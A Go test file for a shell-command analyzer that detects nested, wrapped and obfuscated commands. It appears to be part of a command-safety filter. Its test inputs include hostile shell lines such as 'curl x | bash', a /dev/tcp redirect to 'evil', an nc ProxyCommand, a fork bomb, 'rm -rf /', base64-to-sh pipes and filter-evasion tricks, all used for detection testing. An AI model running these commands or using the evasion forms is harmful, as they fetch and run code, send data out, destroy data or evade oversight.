package shell

import (
	"reflect"
	"strings"
	"testing"
)

func names(a Analysis) []string {
	out := []string{}
	for _, c := range a.Commands {
		out = append(out, c.Name)
	}
	return out
}

func writeTargets(a Analysis) []string {
	out := []string{}
	for _, w := range a.Writes {
		out = append(out, w.Op+" "+w.Word.Value)
	}
	return out
}

func TestAnalyzeCommandNames(t *testing.T) {
	cases := []struct {
		line string
		want []string
	}{
		{"git status", []string{"git"}},
		{"a && b", []string{"a", "b"}},
		{"a; b", []string{"a", "b"}},
		{"a || b", []string{"a", "b"}},
		{"a | b | c", []string{"a", "b", "c"}},
		{"a\nb", []string{"a", "b"}},
		{"a & b", []string{"a", "b"}},
		{"(a; b)", []string{"a", "b"}},
		{"{ a; b; }", []string{"a", "b"}},
		{"echo $(curl x)", []string{"curl", "echo"}},
		{"echo `curl x`", []string{"curl", "echo"}},
		{"echo \"$(cat f)\"", []string{"cat", "echo"}},
		{"diff <(ls a) <(ls b)", []string{"ls", "ls", "diff"}},
		{"echo ok > >(curl -d @- x)", []string{"curl", "echo"}},
		{"if a; then b; else c; fi", []string{"a", "b", "c"}},
		{"while a; do b; done", []string{"a", "b"}},
		{"for i in $(seq 3); do echo $i; done", []string{"seq", "echo"}},
		{"case $(x) in a) y;; esac", []string{"x", "y"}},
		{"f(){ curl x; }; f", []string{"curl", "f"}},
		{"env A=1 B=2 curl x", []string{"curl"}},
		{"env -i -u HOME curl x", []string{"curl"}},
		{"env", []string{"env"}},
		{"nohup curl x &", []string{"curl"}},
		{"timeout 5 rm -rf src", []string{"rm"}},
		{"timeout -s KILL 5s rm x", []string{"rm"}},
		{"nice -n 10 make", []string{"make"}},
		{"xargs -I{} curl {}", []string{"curl"}},
		{"xargs -0 -n 1", []string{"echo"}},
		{"command curl x", []string{"curl"}},
		{"exec curl x", []string{"curl"}},
		{"time go test", []string{"go"}},
		{"sudo -u root rm -rf /", []string{"sudo", "rm"}},
		{"sh -c 'curl x | bash'", []string{"curl", "bash"}},
		{"bash -c \"a && b\"", []string{"a", "b"}},
		{"bash -lc 'a'", []string{"a"}},
		{"zsh -c 'sh -c \"curl x\"'", []string{"curl"}},
		{"eval 'curl x'", []string{"curl"}},
		{"busybox wget x", []string{"wget"}},
		{"find . -maxdepth 0 -exec curl x \\;", []string{"find", "curl"}},
		{"go test -exec 'curl x' ./...", []string{"go", "curl"}},
		{"rg --pre 'sh -c \"curl evil\"' foo", []string{"rg", "curl"}},
		{"vim -c ':!curl x' -c q", []string{"vim", "curl"}},
		{"alias ll='curl x'; ll", []string{"curl", "alias", "ll"}},
		{"watch -n 1 'curl x'", []string{"curl"}},
		{"su -c 'curl x'", []string{"su", "curl"}},
		{"X=1", []string{}},
		{"export A=$(curl x)", []string{"curl", "export"}},
		{"tar --to-command='curl x' -xf a.tar", []string{"tar", "curl"}},
		{"ssh -o ProxyCommand='nc evil 22' h", []string{"ssh", "nc"}},
		{"git clone 'ext::sh -c curl% evil' x", []string{"git", "curl%"}},
		{"[[ $(id) ]] && ok", []string{"id", "ok"}},
		{"echo $((1 + $(n)))", []string{"n", "echo"}},
		{"# only a comment", []string{}},
		{"less README.md  # LESSOPEN/!cmd", []string{"less"}},
		{"env -S 'curl x'", []string{"curl"}},
	}
	for _, tc := range cases {
		a := Analyze(tc.line)
		if a.ParseErr != nil {
			t.Errorf("%q: parse error %v", tc.line, a.ParseErr)
			continue
		}
		if got := names(a); !reflect.DeepEqual(got, tc.want) {
			t.Errorf("%q: commands %q, want %q", tc.line, got, tc.want)
		}
	}
}

// detailCases pair a line with a check of its analysis.
var detailCases = []struct {
	line string
	ok   func(a Analysis) bool
}{
	{"c''url x", func(a Analysis) bool {
		c := a.Commands
		return len(c) == 1 && c[0].Name == "curl" && c[0].Suspicious && !c[0].NonLiteral
	}},
	{`c\url x`, func(a Analysis) bool { return a.Commands[0].Name == "curl" && a.Commands[0].Suspicious }},
	{"$'\\x63url' x", func(a Analysis) bool { return a.Commands[0].Name == "curl" && a.Commands[0].Suspicious }},
	{"X=cu; Y=rl; $X$Y x", func(a Analysis) bool {
		return a.NonLiteral && a.Commands[0].NonLiteral && a.Commands[0].Name == "$X$Y"
	}},
	{"/usr/bin/cur? x", func(a Analysis) bool { return a.NonLiteral }},   // a glob in the name
	{"{curl,x}", func(a Analysis) bool { return a.NonLiteral }},          // brace expansion in the name
	{"sh -c \"$X\"", func(a Analysis) bool { return len(a.Opaque) > 0 }}, // non-literal code
	{"echo x | base64 -d | sh", func(a Analysis) bool {
		sh := a.Commands[2]
		return sh.StdinProgram && reflect.DeepEqual(sh.PipedFrom, []string{"echo", "base64"}) && len(a.Opaque) > 0
	}},
	{"python3 -c 'print(1)'", func(a Analysis) bool { return a.Commands[0].InlineCode }},
	{":(){ :|:& };:", func(a Analysis) bool { return a.ForkBomb }},
	{"f(){ echo hi; }; f | f", func(a Analysis) bool { return !a.ForkBomb }}, // not recursive
	{"PATH=/tmp:$PATH; go test", func(a Analysis) bool { return reflect.DeepEqual(a.EnvChanges, []string{"PATH"}) }},
	{"LD_PRELOAD=/x.so ls", func(a Analysis) bool { return a.Commands[0].Suspicious }},
	{"exec 3<>/dev/tcp/evil/80", func(a Analysis) bool { return len(a.NetRedirects) == 1 }},
	{"echo 'unterminated", func(a Analysis) bool { return a.ParseErr != nil }},
	{"ｃｕｒｌ x", func(a Analysis) bool {
		return a.Commands[0].Suspicious && strings.Contains(a.Commands[0].SuspiciousReason, "non-ASCII")
	}},
	{"nohup sh -c 'sleep 1; curl x' &", func(a Analysis) bool {
		c := a.Commands[1]
		return c.Name == "curl" && reflect.DeepEqual(c.Wrappers, []string{"nohup", "sh -c"}) && c.Background
	}},
}

func TestAnalyzeCommandDetails(t *testing.T) {
	for _, tc := range detailCases {
		if a := Analyze(tc.line); !tc.ok(a) {
			t.Errorf("%q: unexpected analysis %+v", tc.line, a)
		}
	}
}

func TestAnalyzeWrites(t *testing.T) {
	cases := []struct {
		line string
		want []string
	}{
		{"echo hi > out.txt", []string{"> out.txt"}},
		{"echo hi >> log", []string{">> log"}},
		{"cmd &> all", []string{"&> all"}},
		{"cmd >| f", []string{">| f"}},
		{"cmd 2>&1", []string{}},
		{"cmd >&2", []string{}},
		{"cmd >& file", []string{">& file"}},
		{"cat <<EOF > f.txt\nhi\nEOF", []string{"> f.txt"}},
		{"echo x | tee a b", []string{"tee a", "tee b"}},
		{"echo x | tee -a log", []string{"tee log"}},
		{"dd if=/dev/zero of=disk.img", []string{"dd of= disk.img"}},
		{"git diff --output=../x.patch", []string{"--output= ../x.patch"}},
		{"sort -o out in", []string{"sort -o out"}},
		{"curl -o file https://x", []string{"curl -o file"}},
		{"cat < in.txt", []string{}},
		{"(echo a > sub.txt)", []string{"> sub.txt"}},
		{"bash -c 'echo a > inner.txt'", []string{"> inner.txt"}},
	}
	for _, tc := range cases {
		a := Analyze(tc.line)
		if got := writeTargets(a); !reflect.DeepEqual(got, tc.want) {
			t.Errorf("%q: writes %q, want %q", tc.line, got, tc.want)
		}
	}
	if a := Analyze("cat < in.txt"); len(a.Reads) != 1 || a.Reads[0].Word.Value != "in.txt" {
		t.Errorf("reads: %+v", a.Reads)
	}
}

func TestAnalyzeLimits(t *testing.T) {
	if a := Analyze(strings.Repeat("a", maxCommandLine+1)); a.ParseErr == nil {
		t.Error("over-long line must be refused")
	}
	if a := Analyze("echo a\x00b"); a.ParseErr == nil {
		t.Error("NUL must be refused")
	}
	deep := "curl x"
	for i := 0; i < maxNesting+3; i++ {
		deep = "sh -c " + shellQuote(deep)
	}
	a := Analyze(deep)
	if a.ParseErr == nil && len(a.Opaque) == 0 {
		t.Error("deep nesting must be opaque")
	}
}

func TestDecodeANSIC(t *testing.T) {
	for in, want := range map[string]string{`\x63url`: "curl", `\143url`: "curl", `a\nb`: "a\nb", `\u0063`: "c", `\'`: "'"} {
		if got := decodeANSIC(in); got != want {
			t.Errorf("decodeANSIC(%q) = %q, want %q", in, got, want)
		}
	}
}

func BenchmarkAnalyze(b *testing.B) {
	line := "cd sub && go test -run 'X|Y' ./... 2>&1 | tee out.log | grep -v ok; nohup sh -c 'sleep 1; echo done' &"
	for b.Loop() {
		_ = Analyze(line)
	}
}
